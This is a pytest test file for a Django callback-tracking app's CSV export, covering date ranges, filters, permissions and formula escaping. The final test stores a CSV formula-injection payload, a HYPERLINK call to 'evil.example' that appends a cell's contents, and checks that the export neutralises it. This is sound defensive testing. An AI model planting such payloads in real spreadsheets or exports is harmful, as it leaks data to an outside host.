import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from tests.callbacks.factories import CallbackFactory

pytestmark = pytest.mark.django_db


def _rows(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_export_streams_twelve_months_of_callbacks_with_a_header(client_for, manager, django_assert_max_num_queries):
    recent = CallbackFactory(problem="No heat again")
    CallbackFactory(problem="Too old to export", logged_at=timezone.now() - timedelta(days=400))
    client = client_for(manager)

    with django_assert_max_num_queries(6):
        response = client.get(reverse("callbacks:export"))
        rows = _rows(response)

    assert response["Content-Type"].startswith("text/csv")
    assert rows[0][0] == "Callback" and rows[0][-1] == "Problem (customer's words)"
    assert [row[0] for row in rows[1:]] == [str(recent.pk)]
    assert rows[1][-1] == "No heat again"


def test_export_keeps_the_list_filters_and_a_date_range(client_for, csr):
    emergency = CallbackFactory(urgency="emergency")
    CallbackFactory(urgency="normal")
    client = client_for(csr)

    rows = _rows(client.get(reverse("callbacks:export"), {"urgency": "emergency"}))
    assert [row[0] for row in rows[1:]] == [str(emergency.pk)]

    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    rows = _rows(client.get(reverse("callbacks:export"), {"logged_from": tomorrow}))
    assert rows[1:] == []


def test_export_refuses_a_bad_date_with_a_message(client_for, csr):
    response = client_for(csr).get(reverse("callbacks:export"), {"logged_from": "last tuesday"}, follow=True)

    assert "Dates must look like" in response.content.decode()


@pytest.mark.parametrize("role", ["technician", "sales", "outsider"])
def test_only_the_office_exports(request, client_for, role):
    assert client_for(request.getfixturevalue(role)).get(reverse("callbacks:export")).status_code == 403


def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client_for, manager):
    CallbackFactory(problem='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    CallbackFactory(problem="-2+3 degrees colder than set")

    rows = _rows(client_for(manager).get(reverse("callbacks:export")))

    problems = sorted(row[-1] for row in rows[1:])
    assert problems == ["'-2+3 degrees colder than set", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
